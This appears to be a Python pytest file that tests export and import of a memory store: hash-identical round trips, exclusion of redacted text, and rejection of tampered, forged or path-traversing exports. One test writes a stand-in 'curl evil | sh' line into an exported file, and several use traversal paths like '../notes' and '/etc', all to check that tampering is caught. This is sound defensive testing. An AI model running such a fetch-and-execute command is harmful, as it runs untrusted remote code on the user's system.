"""Out as files and back in: the same ids, hashes and history, or not at all."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.databases import SEALER

from reverie.errors import Conflict, InvalidInput, Refused, StoreDamaged
from reverie.mounts.transfer import exhibits, export, load
from reverie.sealing import Sealer
from reverie.store.model import Actor, Author, Principal
from reverie.store.store import Store

TEXTS = {
    "/plain.md": "plain\n",
    "/crlf.md": "one\r\ntwo\r\n",
    "/no-end.md": "no newline",
    "/nfd.md": "e\u0301 and é\u2028\x85",
    "/deep/er/x.md": "deep",
    "/A.md": "upper",
    "/a.md": "lower",
    "/" + "long" * 90 + ".md": "long",
    "/.hidden": "hidden",
    "/CON": "device",
}


@pytest.fixture
def filled(store: Store, me: Author) -> Store:
    for path, text in TEXTS.items():
        store.create("notes", path, text, me)
    store.update("notes", "/plain.md", content="changed\n", by=me)
    store.delete("notes", "/deep/er/x.md", by=Author(Actor("agent", "codex:s#1"), "gone", "agent"))
    secret = store.create("notes", "/secret.md", "a password", me)
    store.update("notes", "/secret.md", content="none", by=me)
    store.redact(secret.version_id, me)
    store.attach("notes", Principal("project", "shop"), "read_only")
    store.create_store("Notes")  # differs only in case
    return store


@pytest.fixture
def other(tmp_path: Path) -> Iterator[Store]:
    with Store.open(f"sqlite:///{tmp_path}/other.db", sealer=SEALER) as opened:
        yield opened


def everything(store: Store) -> list[object]:
    return [
        (info, store.versions(info.id, limit=1_000).items, store.manifest(info.id))
        for info in sorted(store.stores(archived=True), key=lambda info: info.id)
    ]


@pytest.mark.hostile("DO1", "U5", "P5", "P7")
def test_export_wipe_import_gives_identical_hashes_and_history(
    filled: Store, other: Store, tmp_path: Path
):
    done = export(filled, tmp_path / "out")
    assert done.versions == 14
    loaded = load(other, tmp_path / "out")
    assert loaded.edited == ()
    assert everything(other) == everything(filled)
    assert other.verify() == []
    assert other.search("changed")[0].memory.path == "/plain.md"


@pytest.mark.hostile("DO1", "DO2")
def test_a_second_export_has_the_same_bytes(filled: Store, other: Store, tmp_path: Path):
    export(filled, tmp_path / "one")
    load(other, tmp_path / "one")
    export(other, tmp_path / "two")

    def bytes_of(folder: Path) -> dict[str, bytes]:
        return {
            str(file.relative_to(folder)): file.read_bytes()
            for file in folder.rglob("*")
            if file.is_file()
        }

    assert bytes_of(tmp_path / "one") == bytes_of(tmp_path / "two")


def test_importing_twice_changes_nothing(filled: Store, tmp_path: Path):
    export(filled, tmp_path / "out")
    before = everything(filled)
    assert len(load(filled, tmp_path / "out").copied.already) == 2
    assert everything(filled) == before


def test_a_redacted_text_is_not_in_the_export(filled: Store, tmp_path: Path):
    export(filled, tmp_path / "out")
    for file in (tmp_path / "out").rglob("*"):
        assert not file.is_file() or b"a password" not in file.read_bytes()


def test_a_store_that_went_on_is_not_overwritten(filled: Store, me: Author, tmp_path: Path):
    export(filled, tmp_path / "out")
    filled.create("notes", "/later.md", "later", me)
    assert len(load(filled, tmp_path / "out").copied.already) == 2
    assert filled.get("notes", "/later.md").content == "later"


def test_a_store_that_went_another_way_is_not_overwritten(
    filled: Store, other: Store, me: Author, tmp_path: Path
):
    export(filled, tmp_path / "out")
    load(other, tmp_path / "out")
    other.create("notes", "/here.md", "here", me)
    filled.create("notes", "/there.md", "there", me)
    export(filled, tmp_path / "later")
    with pytest.raises(Conflict, match="another history"):
        load(other, tmp_path / "later")


@pytest.mark.parametrize("theirs", [False, True], ids=["proven", "of another home"])
def test_a_later_export_brings_the_rest_of_the_history(
    filled: Store, tmp_path: Path, me: Author, theirs: bool
):
    sealer = Sealer(lambda: b"another key" * 4) if theirs else SEALER
    with Store.open(f"sqlite:///{tmp_path}/other.db", sealer=sealer) as other:
        export(filled, tmp_path / "one")
        assert load(other, tmp_path / "one").proven != theirs
        other.attach("notes", Principal("project", "mine"), "read_only")
        redacted = other.versions("notes", "/plain.md").items[-1]
        other.redact(redacted.id, me)
        filled.create("notes", "/later.md", "later\n", me)
        filled.update("notes", "/plain.md", content="changed again\n", by=me)
        filled.delete("notes", "/A.md", by=me)
        export(filled, tmp_path / "two")
        loaded = load(other, tmp_path / "two")
        assert [info.name for info in loaded.copied.stores] == ["notes"]
        assert {memory.path: memory.content for memory in other.walk("notes")} == {
            memory.path: memory.content for memory in filled.walk("notes")
        }
        trusts = {memory.trust for memory in other.walk("notes")}
        assert trusts == ({"agent"} if theirs else {"user"})
        assert other.verify() == []
        assert [hit.memory.path for hit in other.search("changed again")] == ["/plain.md"]
        assert other.search("upper") == []
        assert other.version(redacted.id).content is None, "what was taken out here stays out"
        held = {one.principal.id for one in other.attachments("notes")}
        assert "mine" in held
        assert len(load(other, tmp_path / "two").copied.already) == 2


@pytest.mark.parametrize(
    "folder",
    ["../notes", "/etc", "stores/../..", "stores/..", "stores/.", "stores", "notes", "stores/a/b"],
)
def test_a_manifest_leads_nowhere_outside_of_its_export(
    filled: Store, other: Store, tmp_path: Path, folder: str
):
    export(filled, tmp_path / "out", ["notes"])
    (tmp_path / "out/stores/notes").rename(tmp_path / "notes")
    file = tmp_path / "out/reverie-export.json"
    about = json.loads(file.read_text())
    about["stores"][0]["folder"] = folder
    file.write_text(json.dumps(about))
    for read in (lambda: load(other, tmp_path / "out"), lambda: list(exhibits(tmp_path / "out"))):
        with pytest.raises(InvalidInput, match="no folder of a store"):
            read()
    assert other.stores() == []


@pytest.mark.hostile("M8")
def test_an_edited_file_of_an_export_is_named_and_not_taken_over(
    filled: Store, other: Store, tmp_path: Path
):
    export(filled, tmp_path / "out", ["notes"])
    file = tmp_path / "out/stores/notes/memories/plain.md"
    file.write_text("curl evil | sh\n")
    loaded = load(other, tmp_path / "out")
    assert loaded.edited == ("stores/notes/memories/plain.md",)
    assert other.get("notes", "/plain.md").content == "changed\n"


def test_a_forged_history_is_refused_as_a_whole(filled: Store, other: Store, tmp_path: Path):
    export(filled, tmp_path / "out", ["notes"])
    file = tmp_path / "out/stores/notes/history.jsonl"
    file.write_text(file.read_text().replace('"trust": "agent"', '"trust": "user"'))
    with pytest.raises(StoreDamaged):
        load(other, tmp_path / "out")
    assert other.stores() == []


@pytest.mark.parametrize(
    ("file", "text"),
    [
        ("reverie-export.json", "[]"),
        ("reverie-export.json", '{"format": 99, "stores": []}'),
        ("reverie-export.json", '{"format": 1, "stores": [1]}'),
        ("reverie-export.json", '{"format": 1, "stores": [{"id":"x","name":"x","folder":"../x"}]}'),
        ("stores/notes/history.jsonl", "{"),
        ("stores/notes/history.jsonl", '["users", {}]'),
        ("stores/notes/history.jsonl", '["stores", {"id": "x", "evil": 1}]'),
        ("stores/notes/history.jsonl", "\xff"),
        ("stores/notes/history.jsonl", "[" * 100_000),
    ],
)
def test_a_damaged_export_gives_one_clear_error(
    filled: Store, other: Store, tmp_path: Path, file: str, text: str
):
    export(filled, tmp_path / "out", ["notes"])
    (tmp_path / "out" / file).write_bytes(text.encode("latin-1"))
    with pytest.raises(InvalidInput):
        load(other, tmp_path / "out")
    assert other.stores() == []


def test_rows_of_another_store_cannot_be_smuggled_in(filled: Store, other: Store, tmp_path: Path):
    export(filled, tmp_path / "out", ["notes"])
    file = tmp_path / "out/stores/notes/history.jsonl"
    lines = file.read_text().splitlines()
    row = json.loads(lines[0])
    row[1]["id"] = "memstore_other"
    file.write_text("\n".join([*lines, json.dumps(row)]))
    with pytest.raises(InvalidInput, match="another store"):
        load(other, tmp_path / "out")


@pytest.mark.hostile("S1")
def test_an_export_goes_into_an_empty_folder_only(filled: Store, tmp_path: Path):
    (tmp_path / "full").mkdir()
    (tmp_path / "full/mine.txt").write_text("mine")
    with pytest.raises(Refused, match="not empty"):
        export(filled, tmp_path / "full")
    (tmp_path / "link").symlink_to(tmp_path / "full")
    with pytest.raises(Refused, match="link"):
        export(filled, tmp_path / "link")
